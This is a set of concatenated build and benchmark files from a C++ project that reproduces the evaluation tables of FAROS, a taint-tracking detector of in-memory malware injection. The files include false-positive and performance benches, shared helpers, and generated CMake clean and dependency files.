    auto run = bench::must_analyze(sc);
    if (run.flagged) {
      ++*false_positives;
      ++failures;
    }
    if (!run.replayed.stats.all_exited) ++failures;  // sample must finish
    std::printf("%-28s %-44s %s\n", s.name.c_str(), behaviours.c_str(),
                run.flagged ? "YES (FP!)" : "no");
  }
  return failures;
}

}  // namespace

int main() {
  bench::heading(
      "Table IV — non-injecting malware battery + benign software");

  int fps = 0;
  int failures = 0;
  failures += run_battery(attacks::table4_full_battery(),
                          "real-world malware (non-injecting)", &fps);
  failures += run_battery(attacks::table4_benign(), "benign software", &fps);

  size_t total =
      attacks::table4_full_battery().size() + attacks::table4_benign().size();
  std::printf("\npaper: 0%% false positives on 90 non-injecting malware + 14 "
              "benign applications\n");
  std::printf("measured: %d false positives on %zu samples (%.1f%%)\n", fps,
              total, 100.0 * fps / static_cast<double>(total));
  std::printf("overall evaluation FP rate incl. Table III JIT workloads: "
              "%d+2 of %zu+20 = %.1f%% (paper: 2%%)\n",
              fps, total,
              100.0 * (fps + 2) / static_cast<double>(total + 20));
  std::printf("result: %s\n",
              failures == 0 ? "REPRODUCED" : "REPRODUCTION FAILURE");
  return failures == 0 ? 0 : 1;
}
