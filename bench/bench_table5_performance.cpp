// Reproduces Table V: replay time without FAROS vs with FAROS for six
// applications, and the per-application slowdown factor. Absolute numbers
// are substrate-specific (the paper measured PANDA on an i7-6700K; we run a
// purpose-built emulator), but the shape must hold: whole-system DIFT costs
// an order of magnitude over bare replay, and heavier workloads pay more.
#include <algorithm>

#include "attacks/datasets.h"
#include "bench_util.h"
#include "core/engine.h"

using namespace faros;

namespace {

// Heft multiplier so each app runs long enough to time reliably.
constexpr int kRepeat = 6;

struct AppResult {
  std::string name;
  double bare_s = 0;
  double faros_s = 0;
  u64 instructions = 0;
  obs::MetricSnapshot metrics;  // replay counters (deterministic, so the
                                // last timed run's snapshot represents all)
};

double median3(double a, double b, double c) {
  double v[3] = {a, b, c};
  std::sort(v, v + 3);
  return v[1];
}

double rate(u64 hit, u64 miss) {
  u64 total = hit + miss;
  return total ? static_cast<double>(hit) / static_cast<double>(total) : 0;
}

AppResult measure(const attacks::SampleSpec& spec) {
  std::vector<attacks::Behavior> behaviors;
  for (int i = 0; i < kRepeat; ++i) {
    behaviors.insert(behaviors.end(), spec.behaviors.begin(),
                     spec.behaviors.end());
  }
  attacks::BehaviorScenario sc(spec.name + ".exe", behaviors);
  auto rec = attacks::record_run(sc);
  if (!rec.ok()) {
    std::fprintf(stderr, "FATAL: record %s: %s\n", spec.name.c_str(),
                 rec.error().message.c_str());
    std::exit(1);
  }
  const vm::ReplayLog& log = rec.value().log;

  // Machine construction, boot and scenario setup are outside the timed
  // region on both sides: Table V times the *replay* itself.
  auto bare = [&]() {
    os::Machine m;
    if (!m.boot().ok()) std::exit(1);
    if (!sc.setup(m).ok()) std::exit(1);
    m.load_replay(log);
    return bench::time_s([&] { m.run(sc.budget()); });
  };
  obs::MetricSnapshot last_metrics;
  auto with_faros = [&]() {
    os::Machine m;
    core::FarosEngine engine(m.kernel(), core::Options{});
    m.attach_cpu_plugin(&engine);
    m.add_monitor(&engine);
    if (!m.boot().ok()) std::exit(1);
    if (!sc.setup(m).ok()) std::exit(1);
    m.load_replay(log);
    double s = bench::time_s([&] { m.run(sc.budget()); });
    last_metrics = engine.metrics_snapshot();
    return s;
  };

  AppResult out;
  out.name = spec.name;
  out.instructions = rec.value().stats.instructions;
  // Warm-up once, then median of three.
  bare();
  out.bare_s = median3(bare(), bare(), bare());
  with_faros();
  out.faros_s = median3(with_faros(), with_faros(), with_faros());
  out.metrics = last_metrics;
  return out;
}

}  // namespace

int main() {
  bench::heading("Table V — replay time without vs with FAROS");

  // Paper's measured slowdowns, for shape comparison.
  const double paper_slowdown[] = {18.2, 12.8, 7.1, 14.0, 7.0, 19.7};

  auto apps = attacks::table5_apps();
  std::printf("%-16s %12s %16s %16s %10s %14s\n", "application", "guest insns",
              "replay w/o (ms)", "replay w/ (ms)", "overhead",
              "paper overhead");
  double worst = 0, best = 1e9, bare_total = 0, faros_total = 0;
  int i = 0;
  for (const auto& spec : apps) {
    AppResult r = measure(spec);
    double x = r.faros_s / std::max(r.bare_s, 1e-9);
    worst = std::max(worst, x);
    best = std::min(best, x);
    bare_total += r.bare_s;
    faros_total += r.faros_s;
    std::printf("%-16s %12llu %16.2f %16.2f %9.1fx %13.1fx\n",
                r.name.c_str(),
                static_cast<unsigned long long>(r.instructions),
                r.bare_s * 1e3, r.faros_s * 1e3, x, paper_slowdown[i]);
    JsonWriter rec;
    rec.field("app", r.name)
        .field("guest_insns", r.instructions)
        .field("bare_ms", r.bare_s * 1e3)
        .field("faros_ms", r.faros_s * 1e3)
        .field("overhead", x)
        .field("paper_overhead", paper_slowdown[i]);
    if (r.metrics.collected) {
      const obs::MetricSnapshot& m = r.metrics;
      using obs::Ctr;
      rec.field("fetch_cache_hit_rate",
                rate(m[Ctr::kFetchCacheHit], m[Ctr::kFetchCacheMiss]))
          .field("merge_memo_hit_rate",
                 rate(m[Ctr::kMergeMemoHit], m[Ctr::kMergeMemoMiss]))
          .field("shadow_page_allocs", m[Ctr::kShadowPageAlloc])
          .field("tainted_fetches", m[Ctr::kTaintedFetches])
          .field("taint_src_events", m[Ctr::kTaintSrcEvents]);
    }
    bench::json_record("table5_performance", rec);
    ++i;
  }

  std::printf("\npaper: 7.0x - 19.7x over PANDA replay (14x average; 56x vs "
              "bare QEMU). Absolute factors are substrate-specific: the\n"
              "paper's per-byte shadow paid an order of magnitude, while our "
              "paged shadow with untainted fast paths and a fetch-provenance\n"
              "cache brings whole-system DIFT close to bare replay. The shape "
              "to check is overhead > 1x (tracking is not free) with\n"
              "identical detection results.\n");
  // DIFT must still cost something over bare replay; the old >1.5x gate
  // encoded the per-byte-hash-map shadow and is obsolete. Gate on the
  // aggregate across all six apps — with overhead this close to 1x, a
  // single app's ratio can dip below 1.0 under host noise. The 1.6x
  // ceiling is the block-translation-cache promise: with decode-once
  // dispatch and taint-inert elision, whole-system DIFT stays within
  // ~1.5x of bare replay on these workloads (CI enforces the ceiling).
  double aggregate = faros_total / std::max(bare_total, 1e-9);
  bool ok = aggregate > 1.0 && aggregate <= 1.6 && worst < 8.0;
  std::printf("measured overhead range: %.1fx - %.1fx (aggregate %.2fx)\n",
              best, worst, aggregate);
  std::printf("result: %s\n", ok ? "SHAPE REPRODUCED"
                                 : "REPRODUCTION FAILURE");
  return ok ? 0 : 1;
}
