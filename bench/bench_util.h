// Shared helpers for the experiment-reproduction benches: each binary
// regenerates one table or figure of the paper and prints it in a shape
// comparable to the original.
#pragma once

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "attacks/scenarios.h"
#include "common/json.h"

namespace faros::bench {

inline void heading(const std::string& title) {
  std::printf("\n==============================================================\n");
  std::printf("%s\n", title.c_str());
  std::printf("==============================================================\n");
}

/// Wall-clock seconds for `fn()`.
template <typename Fn>
double time_s(Fn&& fn) {
  auto t0 = std::chrono::steady_clock::now();
  fn();
  auto t1 = std::chrono::steady_clock::now();
  return std::chrono::duration<double>(t1 - t0).count();
}

/// Analyze a scenario and abort loudly on harness errors (a bench must not
/// silently report a half-run experiment).
inline attacks::AnalyzedRun must_analyze(attacks::Scenario& sc,
                                         const core::Options& opts = {}) {
  auto run = attacks::analyze(sc, opts);
  if (!run.ok()) {
    std::fprintf(stderr, "FATAL: scenario '%s' failed: %s\n",
                 sc.name().c_str(), run.error().message.c_str());
    std::exit(1);
  }
  return std::move(run).take();
}

/// Machine-readable bench output: when FAROS_BENCH_JSON=<path> is set,
/// every json_record() call appends one JSONL line to <path> (the human
/// console output is unaffected). `fields` should already contain the
/// metric fields; the bench name is prepended so one file can aggregate a
/// whole bench sweep across binaries:
///   {"bench":"table5_performance","app":"browser","overhead":12.3}
inline void json_record(const std::string& bench_name,
                        const JsonWriter& fields) {
  static FILE* file = [] {
    const char* path = std::getenv("FAROS_BENCH_JSON");
    return path && *path ? std::fopen(path, "a") : nullptr;
  }();
  if (!file) return;
  JsonWriter line;
  line.field("bench", bench_name);
  std::string body = fields.str();  // "{...}" — splice past the brace
  std::string head = line.str();
  head.pop_back();
  if (body.size() > 2) head += "," + body.substr(1);
  else head += "}";
  std::fprintf(file, "%s\n", head.c_str());
  std::fflush(file);
}

}  // namespace faros::bench
