// Shared helpers for the experiment-reproduction benches: each binary
// regenerates one table or figure of the paper and prints it in a shape
// comparable to the original.
#pragma once

#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "attacks/scenarios.h"

namespace faros::bench {

inline void heading(const std::string& title) {
  std::printf("\n==============================================================\n");
  std::printf("%s\n", title.c_str());
  std::printf("==============================================================\n");
}

/// Wall-clock seconds for `fn()`.
template <typename Fn>
double time_s(Fn&& fn) {
  auto t0 = std::chrono::steady_clock::now();
  fn();
  auto t1 = std::chrono::steady_clock::now();
  return std::chrono::duration<double>(t1 - t0).count();
}

/// Analyze a scenario and abort loudly on harness errors (a bench must not
/// silently report a half-run experiment).
inline attacks::AnalyzedRun must_analyze(attacks::Scenario& sc,
                                         const core::Options& opts = {}) {
  auto run = attacks::analyze(sc, opts);
  if (!run.ok()) {
    std::fprintf(stderr, "FATAL: scenario '%s' failed: %s\n",
                 sc.name().c_str(), run.error().message.c_str());
    std::exit(1);
  }
  return std::move(run).take();
}

}  // namespace faros::bench
