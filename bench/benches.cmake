# Included from the top-level CMakeLists so that build/bench/ contains ONLY
# the bench binaries (the canonical run command globs that directory).
function(faros_bench name)
  add_executable(${name} ${CMAKE_SOURCE_DIR}/bench/${name}.cpp)
  target_link_libraries(${name} PRIVATE
    faros_farm faros_graph faros_sa faros_attacks faros_baselines faros_core
    faros_os faros_vm faros_common)
  target_include_directories(${name} PRIVATE ${CMAKE_SOURCE_DIR}/bench)
  set_target_properties(${name} PROPERTIES
    RUNTIME_OUTPUT_DIRECTORY ${CMAKE_BINARY_DIR}/bench)
endfunction()

faros_bench(bench_table2_provenance)
faros_bench(bench_fig7_9_reflective)
faros_bench(bench_fig10_hollowing)
faros_bench(bench_table3_jit_fp)
faros_bench(bench_table4_fp_dataset)
faros_bench(bench_table5_performance)
faros_bench(bench_headline_detection)
faros_bench(bench_cuckoo_comparison)
faros_bench(bench_ablation_indirect_flows)

add_executable(bench_micro_dift ${CMAKE_SOURCE_DIR}/bench/bench_micro_dift.cpp)
target_link_libraries(bench_micro_dift PRIVATE
  faros_attacks faros_sa faros_core faros_os faros_vm faros_common
  benchmark::benchmark)
set_target_properties(bench_micro_dift PROPERTIES
  RUNTIME_OUTPUT_DIRECTORY ${CMAKE_BINARY_DIR}/bench)
faros_bench(bench_evasion)
faros_bench(bench_farm_throughput)
faros_bench(bench_sa_analyze)
faros_bench(bench_graph_export)
