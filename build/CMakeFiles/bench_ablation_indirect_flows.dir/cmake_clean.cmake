file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_indirect_flows.dir/bench/bench_ablation_indirect_flows.cpp.o"
  "CMakeFiles/bench_ablation_indirect_flows.dir/bench/bench_ablation_indirect_flows.cpp.o.d"
  "bench/bench_ablation_indirect_flows"
  "bench/bench_ablation_indirect_flows.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_indirect_flows.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
