# Empty compiler generated dependencies file for bench_ablation_indirect_flows.
# This may be replaced when dependencies are built.
