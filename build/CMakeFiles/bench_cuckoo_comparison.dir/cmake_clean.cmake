file(REMOVE_RECURSE
  "CMakeFiles/bench_cuckoo_comparison.dir/bench/bench_cuckoo_comparison.cpp.o"
  "CMakeFiles/bench_cuckoo_comparison.dir/bench/bench_cuckoo_comparison.cpp.o.d"
  "bench/bench_cuckoo_comparison"
  "bench/bench_cuckoo_comparison.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_cuckoo_comparison.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
