# Empty dependencies file for bench_cuckoo_comparison.
# This may be replaced when dependencies are built.
