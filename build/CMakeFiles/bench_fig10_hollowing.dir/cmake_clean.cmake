file(REMOVE_RECURSE
  "CMakeFiles/bench_fig10_hollowing.dir/bench/bench_fig10_hollowing.cpp.o"
  "CMakeFiles/bench_fig10_hollowing.dir/bench/bench_fig10_hollowing.cpp.o.d"
  "bench/bench_fig10_hollowing"
  "bench/bench_fig10_hollowing.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig10_hollowing.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
