# Empty compiler generated dependencies file for bench_fig10_hollowing.
# This may be replaced when dependencies are built.
