file(REMOVE_RECURSE
  "CMakeFiles/bench_fig7_9_reflective.dir/bench/bench_fig7_9_reflective.cpp.o"
  "CMakeFiles/bench_fig7_9_reflective.dir/bench/bench_fig7_9_reflective.cpp.o.d"
  "bench/bench_fig7_9_reflective"
  "bench/bench_fig7_9_reflective.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig7_9_reflective.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
