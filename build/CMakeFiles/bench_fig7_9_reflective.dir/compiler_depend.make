# Empty compiler generated dependencies file for bench_fig7_9_reflective.
# This may be replaced when dependencies are built.
