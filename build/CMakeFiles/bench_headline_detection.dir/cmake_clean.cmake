file(REMOVE_RECURSE
  "CMakeFiles/bench_headline_detection.dir/bench/bench_headline_detection.cpp.o"
  "CMakeFiles/bench_headline_detection.dir/bench/bench_headline_detection.cpp.o.d"
  "bench/bench_headline_detection"
  "bench/bench_headline_detection.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_headline_detection.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
