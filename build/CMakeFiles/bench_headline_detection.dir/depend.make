# Empty dependencies file for bench_headline_detection.
# This may be replaced when dependencies are built.
