file(REMOVE_RECURSE
  "CMakeFiles/bench_micro_dift.dir/bench/bench_micro_dift.cpp.o"
  "CMakeFiles/bench_micro_dift.dir/bench/bench_micro_dift.cpp.o.d"
  "bench/bench_micro_dift"
  "bench/bench_micro_dift.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_micro_dift.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
