file(REMOVE_RECURSE
  "CMakeFiles/bench_table2_provenance.dir/bench/bench_table2_provenance.cpp.o"
  "CMakeFiles/bench_table2_provenance.dir/bench/bench_table2_provenance.cpp.o.d"
  "bench/bench_table2_provenance"
  "bench/bench_table2_provenance.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table2_provenance.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
