# Empty dependencies file for bench_table2_provenance.
# This may be replaced when dependencies are built.
