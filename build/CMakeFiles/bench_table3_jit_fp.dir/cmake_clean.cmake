file(REMOVE_RECURSE
  "CMakeFiles/bench_table3_jit_fp.dir/bench/bench_table3_jit_fp.cpp.o"
  "CMakeFiles/bench_table3_jit_fp.dir/bench/bench_table3_jit_fp.cpp.o.d"
  "bench/bench_table3_jit_fp"
  "bench/bench_table3_jit_fp.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table3_jit_fp.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
