# Empty compiler generated dependencies file for bench_table3_jit_fp.
# This may be replaced when dependencies are built.
