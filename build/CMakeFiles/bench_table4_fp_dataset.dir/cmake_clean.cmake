file(REMOVE_RECURSE
  "CMakeFiles/bench_table4_fp_dataset.dir/bench/bench_table4_fp_dataset.cpp.o"
  "CMakeFiles/bench_table4_fp_dataset.dir/bench/bench_table4_fp_dataset.cpp.o.d"
  "bench/bench_table4_fp_dataset"
  "bench/bench_table4_fp_dataset.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table4_fp_dataset.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
