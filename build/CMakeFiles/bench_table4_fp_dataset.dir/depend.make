# Empty dependencies file for bench_table4_fp_dataset.
# This may be replaced when dependencies are built.
