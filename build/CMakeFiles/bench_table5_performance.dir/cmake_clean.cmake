file(REMOVE_RECURSE
  "CMakeFiles/bench_table5_performance.dir/bench/bench_table5_performance.cpp.o"
  "CMakeFiles/bench_table5_performance.dir/bench/bench_table5_performance.cpp.o.d"
  "bench/bench_table5_performance"
  "bench/bench_table5_performance.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table5_performance.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
