file(REMOVE_RECURSE
  "CMakeFiles/faros_sandbox.dir/faros_sandbox.cpp.o"
  "CMakeFiles/faros_sandbox.dir/faros_sandbox.cpp.o.d"
  "faros_sandbox"
  "faros_sandbox.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/faros_sandbox.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
