# Empty compiler generated dependencies file for faros_sandbox.
# This may be replaced when dependencies are built.
