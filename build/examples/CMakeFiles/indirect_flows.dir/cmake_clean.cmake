file(REMOVE_RECURSE
  "CMakeFiles/indirect_flows.dir/indirect_flows.cpp.o"
  "CMakeFiles/indirect_flows.dir/indirect_flows.cpp.o.d"
  "indirect_flows"
  "indirect_flows.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/indirect_flows.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
