# Empty compiler generated dependencies file for indirect_flows.
# This may be replaced when dependencies are built.
