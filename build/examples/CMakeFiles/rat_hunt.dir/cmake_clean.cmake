file(REMOVE_RECURSE
  "CMakeFiles/rat_hunt.dir/rat_hunt.cpp.o"
  "CMakeFiles/rat_hunt.dir/rat_hunt.cpp.o.d"
  "rat_hunt"
  "rat_hunt.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rat_hunt.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
