# Empty compiler generated dependencies file for rat_hunt.
# This may be replaced when dependencies are built.
