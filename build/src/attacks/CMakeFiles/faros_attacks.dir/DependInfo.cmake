
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/attacks/c2.cpp" "src/attacks/CMakeFiles/faros_attacks.dir/c2.cpp.o" "gcc" "src/attacks/CMakeFiles/faros_attacks.dir/c2.cpp.o.d"
  "/root/repo/src/attacks/datasets.cpp" "src/attacks/CMakeFiles/faros_attacks.dir/datasets.cpp.o" "gcc" "src/attacks/CMakeFiles/faros_attacks.dir/datasets.cpp.o.d"
  "/root/repo/src/attacks/guest_common.cpp" "src/attacks/CMakeFiles/faros_attacks.dir/guest_common.cpp.o" "gcc" "src/attacks/CMakeFiles/faros_attacks.dir/guest_common.cpp.o.d"
  "/root/repo/src/attacks/payloads.cpp" "src/attacks/CMakeFiles/faros_attacks.dir/payloads.cpp.o" "gcc" "src/attacks/CMakeFiles/faros_attacks.dir/payloads.cpp.o.d"
  "/root/repo/src/attacks/programs.cpp" "src/attacks/CMakeFiles/faros_attacks.dir/programs.cpp.o" "gcc" "src/attacks/CMakeFiles/faros_attacks.dir/programs.cpp.o.d"
  "/root/repo/src/attacks/scenarios.cpp" "src/attacks/CMakeFiles/faros_attacks.dir/scenarios.cpp.o" "gcc" "src/attacks/CMakeFiles/faros_attacks.dir/scenarios.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/os/CMakeFiles/faros_os.dir/DependInfo.cmake"
  "/root/repo/build/src/core/CMakeFiles/faros_core.dir/DependInfo.cmake"
  "/root/repo/build/src/introspection/CMakeFiles/faros_introspection.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/faros_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/faros_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
