file(REMOVE_RECURSE
  "CMakeFiles/faros_attacks.dir/c2.cpp.o"
  "CMakeFiles/faros_attacks.dir/c2.cpp.o.d"
  "CMakeFiles/faros_attacks.dir/datasets.cpp.o"
  "CMakeFiles/faros_attacks.dir/datasets.cpp.o.d"
  "CMakeFiles/faros_attacks.dir/guest_common.cpp.o"
  "CMakeFiles/faros_attacks.dir/guest_common.cpp.o.d"
  "CMakeFiles/faros_attacks.dir/payloads.cpp.o"
  "CMakeFiles/faros_attacks.dir/payloads.cpp.o.d"
  "CMakeFiles/faros_attacks.dir/programs.cpp.o"
  "CMakeFiles/faros_attacks.dir/programs.cpp.o.d"
  "CMakeFiles/faros_attacks.dir/scenarios.cpp.o"
  "CMakeFiles/faros_attacks.dir/scenarios.cpp.o.d"
  "libfaros_attacks.a"
  "libfaros_attacks.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/faros_attacks.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
