file(REMOVE_RECURSE
  "libfaros_attacks.a"
)
