# Empty dependencies file for faros_attacks.
# This may be replaced when dependencies are built.
