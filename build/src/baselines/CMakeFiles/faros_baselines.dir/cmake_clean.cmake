file(REMOVE_RECURSE
  "CMakeFiles/faros_baselines.dir/cuckoo.cpp.o"
  "CMakeFiles/faros_baselines.dir/cuckoo.cpp.o.d"
  "CMakeFiles/faros_baselines.dir/report.cpp.o"
  "CMakeFiles/faros_baselines.dir/report.cpp.o.d"
  "libfaros_baselines.a"
  "libfaros_baselines.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/faros_baselines.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
