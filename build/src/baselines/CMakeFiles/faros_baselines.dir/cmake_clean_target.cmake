file(REMOVE_RECURSE
  "libfaros_baselines.a"
)
