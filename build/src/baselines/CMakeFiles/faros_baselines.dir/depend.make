# Empty dependencies file for faros_baselines.
# This may be replaced when dependencies are built.
