file(REMOVE_RECURSE
  "CMakeFiles/faros_common.dir/log.cpp.o"
  "CMakeFiles/faros_common.dir/log.cpp.o.d"
  "CMakeFiles/faros_common.dir/strings.cpp.o"
  "CMakeFiles/faros_common.dir/strings.cpp.o.d"
  "libfaros_common.a"
  "libfaros_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/faros_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
