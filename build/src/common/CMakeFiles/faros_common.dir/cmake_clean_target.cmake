file(REMOVE_RECURSE
  "libfaros_common.a"
)
