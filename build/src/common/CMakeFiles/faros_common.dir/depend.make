# Empty dependencies file for faros_common.
# This may be replaced when dependencies are built.
