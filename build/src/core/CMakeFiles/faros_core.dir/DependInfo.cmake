
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/analyst.cpp" "src/core/CMakeFiles/faros_core.dir/analyst.cpp.o" "gcc" "src/core/CMakeFiles/faros_core.dir/analyst.cpp.o.d"
  "/root/repo/src/core/engine.cpp" "src/core/CMakeFiles/faros_core.dir/engine.cpp.o" "gcc" "src/core/CMakeFiles/faros_core.dir/engine.cpp.o.d"
  "/root/repo/src/core/provenance.cpp" "src/core/CMakeFiles/faros_core.dir/provenance.cpp.o" "gcc" "src/core/CMakeFiles/faros_core.dir/provenance.cpp.o.d"
  "/root/repo/src/core/report.cpp" "src/core/CMakeFiles/faros_core.dir/report.cpp.o" "gcc" "src/core/CMakeFiles/faros_core.dir/report.cpp.o.d"
  "/root/repo/src/core/tags.cpp" "src/core/CMakeFiles/faros_core.dir/tags.cpp.o" "gcc" "src/core/CMakeFiles/faros_core.dir/tags.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/os/CMakeFiles/faros_os.dir/DependInfo.cmake"
  "/root/repo/build/src/introspection/CMakeFiles/faros_introspection.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/faros_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/faros_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
