file(REMOVE_RECURSE
  "CMakeFiles/faros_core.dir/analyst.cpp.o"
  "CMakeFiles/faros_core.dir/analyst.cpp.o.d"
  "CMakeFiles/faros_core.dir/engine.cpp.o"
  "CMakeFiles/faros_core.dir/engine.cpp.o.d"
  "CMakeFiles/faros_core.dir/provenance.cpp.o"
  "CMakeFiles/faros_core.dir/provenance.cpp.o.d"
  "CMakeFiles/faros_core.dir/report.cpp.o"
  "CMakeFiles/faros_core.dir/report.cpp.o.d"
  "CMakeFiles/faros_core.dir/tags.cpp.o"
  "CMakeFiles/faros_core.dir/tags.cpp.o.d"
  "libfaros_core.a"
  "libfaros_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/faros_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
