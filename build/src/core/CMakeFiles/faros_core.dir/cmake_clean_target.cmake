file(REMOVE_RECURSE
  "libfaros_core.a"
)
