# Empty compiler generated dependencies file for faros_core.
# This may be replaced when dependencies are built.
