file(REMOVE_RECURSE
  "CMakeFiles/faros_introspection.dir/monitor.cpp.o"
  "CMakeFiles/faros_introspection.dir/monitor.cpp.o.d"
  "libfaros_introspection.a"
  "libfaros_introspection.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/faros_introspection.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
