file(REMOVE_RECURSE
  "libfaros_introspection.a"
)
