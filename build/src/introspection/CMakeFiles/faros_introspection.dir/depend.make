# Empty dependencies file for faros_introspection.
# This may be replaced when dependencies are built.
