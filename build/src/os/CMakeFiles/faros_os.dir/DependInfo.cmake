
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/os/image.cpp" "src/os/CMakeFiles/faros_os.dir/image.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/image.cpp.o.d"
  "/root/repo/src/os/kernel.cpp" "src/os/CMakeFiles/faros_os.dir/kernel.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/kernel.cpp.o.d"
  "/root/repo/src/os/kernel_syscalls.cpp" "src/os/CMakeFiles/faros_os.dir/kernel_syscalls.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/kernel_syscalls.cpp.o.d"
  "/root/repo/src/os/machine.cpp" "src/os/CMakeFiles/faros_os.dir/machine.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/machine.cpp.o.d"
  "/root/repo/src/os/netstack.cpp" "src/os/CMakeFiles/faros_os.dir/netstack.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/netstack.cpp.o.d"
  "/root/repo/src/os/process.cpp" "src/os/CMakeFiles/faros_os.dir/process.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/process.cpp.o.d"
  "/root/repo/src/os/runtime.cpp" "src/os/CMakeFiles/faros_os.dir/runtime.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/runtime.cpp.o.d"
  "/root/repo/src/os/syscalls.cpp" "src/os/CMakeFiles/faros_os.dir/syscalls.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/syscalls.cpp.o.d"
  "/root/repo/src/os/vfs.cpp" "src/os/CMakeFiles/faros_os.dir/vfs.cpp.o" "gcc" "src/os/CMakeFiles/faros_os.dir/vfs.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/vm/CMakeFiles/faros_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/introspection/CMakeFiles/faros_introspection.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/faros_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
