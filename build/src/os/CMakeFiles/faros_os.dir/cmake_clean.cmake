file(REMOVE_RECURSE
  "CMakeFiles/faros_os.dir/image.cpp.o"
  "CMakeFiles/faros_os.dir/image.cpp.o.d"
  "CMakeFiles/faros_os.dir/kernel.cpp.o"
  "CMakeFiles/faros_os.dir/kernel.cpp.o.d"
  "CMakeFiles/faros_os.dir/kernel_syscalls.cpp.o"
  "CMakeFiles/faros_os.dir/kernel_syscalls.cpp.o.d"
  "CMakeFiles/faros_os.dir/machine.cpp.o"
  "CMakeFiles/faros_os.dir/machine.cpp.o.d"
  "CMakeFiles/faros_os.dir/netstack.cpp.o"
  "CMakeFiles/faros_os.dir/netstack.cpp.o.d"
  "CMakeFiles/faros_os.dir/process.cpp.o"
  "CMakeFiles/faros_os.dir/process.cpp.o.d"
